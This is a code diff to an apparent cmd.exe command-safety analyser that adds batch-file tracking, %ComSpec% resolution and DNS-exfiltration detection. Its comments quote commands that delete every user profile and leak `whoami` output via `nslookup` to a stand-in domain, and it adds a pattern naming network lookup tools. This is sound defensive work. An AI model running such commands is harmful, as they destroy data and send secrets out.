@@ -82,7 +82,25 @@ def analyse(text: str, scope: Scope) -> None:
             continue
         _record_set(words, scope)
         _alternate_streams(words, redirects, scope)
+        _record_written(words, redirects, scope)
         info = dispatch.judge(words, scope, stdin)
+
+
+def _record_written(words: list[Word], redirects: list[tuple[str, Word]], scope: Scope) -> None:
+    """`echo rd /s /q C:\\Users > w.bat`: remember the text a batch file is given, so running
+    it later in the block (`w.bat`, `call w.bat`, `start w.bat`) is judged as that text."""
+    if words[0].text.lower().lstrip("@") != "echo" or any(w.dynamic for w in words[1:]):
+        return
+    text = " ".join(w.text for w in words[1:])
+    for op, target in redirects:
+        if op not in (">", ">>"):
+            continue
+        base = target.text.replace("/", "\\").rsplit("\\", 1)[-1]
+        if not base or "%" in base or "!" in base:
+            continue  # `%TEMP%\\d.txt` keeps its known name; `%x%.bat` does not
+        old = scope.written.get(base)
+        body = f"{old[0]}\n{text}" if op == ">>" and old is not None else text
+        scope.written[base] = (body, -1)
 
 
 def _alternate_streams(words: list[Word], redirects: list[tuple[str, Word]], scope: Scope) -> None:
@@ -140,6 +158,10 @@ def _record_set(words: list[Word], scope: Scope) -> None:
             scope.env.pop(key, None)
 
 
+# Variables every cmd.exe has whose value decides what runs (`%ComSpec% /c …` is cmd).
+_CMD_KNOWN = {"comspec": "C:\\Windows\\System32\\cmd.exe"}
+
+
 def _expand_set_variables(words: list[Word], scope: Scope) -> list[Word]:
     """Put remembered `set` values back where `%x%`/`!x!` is used later (one level; what
     stays unknown stays dynamic)."""
@@ -153,7 +175,7 @@ def _expand_set_variables(words: list[Word], scope: Scope) -> list[Word]:
 
         def sub(m: re.Match[str]) -> str:
             name, _, op = m.group(0).strip("%!").partition(":")
-            known = scope.env.get(_CMD_VAR + name.lower())
+            known = scope.env.get(_CMD_VAR + name.lower()) or _CMD_KNOWN.get(name.lower())
             if known is None:
                 return m.group(0)
             return _cmd_operator(str(known), op) if op else str(known)
@@ -272,6 +294,11 @@ def _strip_control(words: list[Word]) -> list[Word]:
     return words
 
 
+_LOOKUP = re.compile(
+    r"(?i)\A@?(nslookup|ping|ping6|tracert|pathping|resolve-dnsname|curl|wget|certutil)(\.exe)?\Z"
+)
+
+
 def _for_body(words: list[Word], do: int) -> list[Word]:
     """The body of `for [/d|/r DIR] %%i in (SET) do BODY` with the loop variable replaced by
     the set (`for /d %i in (C:\\Users\\*) do rd /s /q %i` deletes every profile). Sets read
@@ -295,6 +322,15 @@ def _for_body(words: list[Word], do: int) -> list[Word]:
         if listing is not None:
             items = [listing[0]]
         elif echoed is None or "tokens" in " ".join(low) or "delims" in " ".join(low):
+            if var is not None and body and src[:1] in "'`" and _LOOKUP.match(body[0].text):
+                # `for /f %t in ('whoami') do nslookup %t.x.example`: a command's output
+                # is put in the name looked up (DNS exfiltration).
+                return [
+                    Word(w.text, w.start, w.end, True, False, "command")
+                    if var.lower() in w.text.lower()
+                    else w
+                    for w in body
+                ]
             return body
         else:
             items = echoed.group(1).split()[:1]
